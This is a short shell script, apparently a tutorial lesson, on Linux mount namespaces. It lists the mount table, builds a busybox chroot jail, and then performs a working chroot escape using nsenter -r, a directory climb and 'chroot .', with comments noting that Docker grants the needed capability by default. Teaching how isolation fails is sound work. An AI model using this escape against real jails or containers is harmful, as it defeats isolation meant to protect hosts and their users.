# Lesson 02: the mount namespace, pivot_root, and a chroot escape.
echo "-- my mount table has $(wc -l </proc/self/mountinfo) mounts:"
mounts=""
while read -r _ _ _ _ where _; do mounts="$mounts $where"; done </proc/self/mountinfo
echo "$mounts"

echo "-- a chroot jail: /tmp/jail holds only busybox"
mkdir /tmp/jail
cp /bin/busybox /tmp/jail/
echo "in the jail, ls / shows: $(chroot /tmp/jail /busybox ls /)"

# nsenter -r chroots into the jail but then goes back to the directory it
# started in, which is outside the jail.  From there ".." climbs up until
# it reaches the root of the mount namespace, and chroot . makes that the
# root again.  It takes CAP_SYS_CHROOT, which Docker grants by default.
echo "-- the escape: chroot into the jail, keep the cwd outside, climb, chroot ."
cd /
nsenter -r/tmp/jail /busybox sh -c 'cd ../../../../..; exec /busybox chroot . /bin/sh -c "echo escaped, ls / shows: \$(ls / | tr \"\\n\" \" \")"'
